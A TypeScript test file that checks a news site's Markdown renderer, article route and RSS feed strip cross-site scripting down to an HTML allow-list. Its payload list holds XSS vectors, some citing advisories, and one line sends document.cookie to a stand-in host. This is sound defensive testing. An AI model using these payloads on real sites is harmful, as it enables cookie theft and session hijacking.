// Script in an article comes out inert: the body is Markdown rendered to HTML and cut down to the
// allow-list (src/domain/markdown.ts). Each payload goes through the real route (POST, then GET as
// a reader, the feed as a feed reader); the HTML is then parsed by htmlparser2 and every element
// and attribute checked against the allow-list, independently of the sanitiser's own output.
import { parseDocument } from 'htmlparser2';
import { isTag, type ChildNode, type Element } from 'domhandler';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { renderMarkdown } from '../../../src/domain/markdown.ts';
import { createTestApp, type TestApp } from '../../helpers/app.ts';
import { DEMO_ACCOUNTS, GENEROUS_LIMITS, signIn, type SignedIn } from '../../helpers/auth.ts';
import { siteHeaders } from '../../helpers/news.ts';
import { createNews } from './news-helpers.ts';

let t: TestApp;
let admin: SignedIn;
beforeAll(async () => {
  t = await createTestApp(GENEROUS_LIMITS);
  admin = await signIn(t, DEMO_ACCOUNTS.admin.email);
});
afterAll(() => t.app.close());

const ALLOWED: Record<string, readonly string[]> = {
  p: [],
  br: [],
  hr: [],
  h2: [],
  h3: [],
  h4: [],
  strong: [],
  em: [],
  del: [],
  code: ['class'],
  pre: [],
  blockquote: [],
  ul: [],
  ol: ['start'],
  li: [],
  a: ['href', 'title', 'rel'],
  img: ['src', 'alt', 'title', 'width', 'height'],
  table: [],
  thead: [],
  tbody: [],
  tr: [],
  th: ['align'],
  td: ['align'],
};

function elements(nodes: ChildNode[]): Element[] {
  return nodes.flatMap((node) => (isTag(node) ? [node, ...elements(node.children)] : []));
}

/** Every element and attribute is on the allow-list; links and images point where they may. */
function expectAllowed(html: string): void {
  for (const element of elements(parseDocument(html).children)) {
    expect(Object.keys(ALLOWED), html).toContain(element.name);
    for (const [name, value] of Object.entries(element.attribs)) {
      expect(ALLOWED[element.name], `${element.name}[${name}] in ${html}`).toContain(name);
      if (name === 'href') expect(value, html).toMatch(/^(https?:|mailto:|\/(?!\/)|#)/i);
      if (name === 'src') expect(value, html).toMatch(/^\/api\/photos\/\d+(\?size=(small|medium|large))?$/);
      if (name === 'class') expect(value).toMatch(/^language-[a-z0-9+#-]+$/);
    }
  }
  expect(html).not.toMatch(/javascript:|onerror|onclick|onload|<script|<iframe|<style|<svg|<textarea|<form|<object/i);
}

const PAYLOADS: [string, string][] = [
  ['a script element', 'Before\n\n<script>alert(document.cookie)</script>\n\nAfter'],
  ['an inline script', 'Text <script>fetch("https://evil.example/"+document.cookie)</script> more'],
  ['an image with onerror', '<img src=x onerror="alert(1)">'],
  ['an image of ours with onerror', '<img src="/api/photos/1" onerror="alert(1)">'],
  ['a Markdown javascript: link', '[click me](javascript:alert(1))'],
  ['an HTML javascript: link in mixed case', '<a href="JaVaScRiPt:alert(1)">click</a>'],
  ['an entity-encoded javascript: link', '<a href="&#106;avascript:alert(1)">click</a>'],
  ['a zero-padded entity in a link', '<a href="&#0000106avascript:alert(1)">click</a>'],
  ['a data: link', '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)'],
  ['an event handler on a paragraph', '<p onclick="alert(1)" style="position:fixed">text</p>'],
  ['an iframe', '<iframe src="https://evil.example"></iframe>'],
  ['a style element', '<style>body { display: none }</style>'],
  ['an SVG with script', '<svg onload="alert(1)"><script>alert(1)</script></svg>'],
  ['raw text in foreign content (GHSA sanitize-html 2.17.6)', '<svg><textarea><img src=x onerror=alert(1)></textarea></svg>'],
  ['a textarea closed with a solidus (GHSA-jxwj-j7wr-gfrw)', '<textarea></textarea/><img src=x onerror=alert(1)>'],
  ['an xmp element', '<xmp><img src=x onerror=alert(1)></xmp>'],
  ['a form', '<form action="https://evil.example"><input name="password"><button>Send</button></form>'],
  ['a Markdown image from elsewhere', '![tracker](https://evil.example/pixel.gif)'],
  ['a protocol-relative link', '<a href="//evil.example">x</a>'],
  ['a meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['a base element', '<base href="https://evil.example/">'],
];

describe('rendering Markdown on the allow-list', () => {
  it.each(PAYLOADS)('%s comes out inert', (_name, body) => {
    expectAllowed(renderMarkdown(body));
  });

  it('keeps what articles are written with', () => {
    const html = renderMarkdown(
      [
        '# Title becomes h2',
        '',
        'A **bold** and *em* ~~gone~~ `code` [site](/map) [ext](https://www.stadt-zuerich.ch) [mail](mailto:velo@example.org).',
        '',
        '- one',
        '- two',
        '',
        '3. three',
        '',
        '> quote',
        '',
        '| a | b |',
        '|:--|--:|',
        '| 1 | 2 |',
        '',
        '![Our photo](/api/photos/12?size=medium)',
      ].join('\n'),
    );
    expect(html).toContain('<h2>Title becomes h2</h2>');
    expect(html).toContain('<strong>bold</strong> and <em>em</em> <del>gone</del> <code>code</code>');
    expect(html).toContain('<a href="/map">site</a>');
    expect(html).toContain('<a href="https://www.stadt-zuerich.ch" rel="noopener noreferrer">ext</a>');
    expect(html).toContain('<a href="mailto:velo@example.org">mail</a>');
    expect(html).toContain('<ol start="3">');
    expect(html).toContain('<blockquote>');
    expect(html).toContain('<th align="left">a</th>');
    expect(html).toContain('<img src="/api/photos/12?size=medium" alt="Our photo" />');
    expectAllowed(html);
  });
});

describe('through the routes', () => {
  it('an article full of payloads is stored as written and served sanitised, in the article and the feed', async () => {
    const body = PAYLOADS.map(([, payload]) => payload).join('\n\n');
    const article = await createNews(t, admin.accessToken, {
      translations: { de: { title: '<script>alert(1)</script> Titel', lead: 'Lead <img src=x onerror=alert(1)>', body } },
    });
    // The source keeps the Markdown as written (editors see what they wrote), its preview is sanitised.
    expect(article.translations[0].body).toBe(body);
    expectAllowed(article.translations[0].bodyHtml);

    const read = await t.get(`/api/news/${article.slug}`, siteHeaders('bikeable', 'ch'));
    expect(read.status).toBe(200);
    expectAllowed(read.body.bodyHtml);
    // Title and lead are plain text: JSON carries them as text; the page escapes them like any text.
    expect(read.body.title).toBe('<script>alert(1)</script> Titel');

    const feed = await t.get('/api/news.rss?platform=bikeable&country=ch&lang=de');
    expect(feed.status).toBe(200);
    const xml = String(feed.body);
    expect(xml).not.toContain('<script>');
    expect(xml).toContain('&lt;script&gt;alert(1)&lt;/script&gt; Titel');
    // Markup only as escaped text: no element with a handler or a script URL anywhere in the XML.
    expect(xml).not.toMatch(/<img[^>]*onerror|<[a-z]+[^>]*\son[a-z]+=|<a[^>]*javascript:/i);
    expect(xml).toContain('Lead &lt;img src=x onerror=alert(1)&gt;');
  });
});
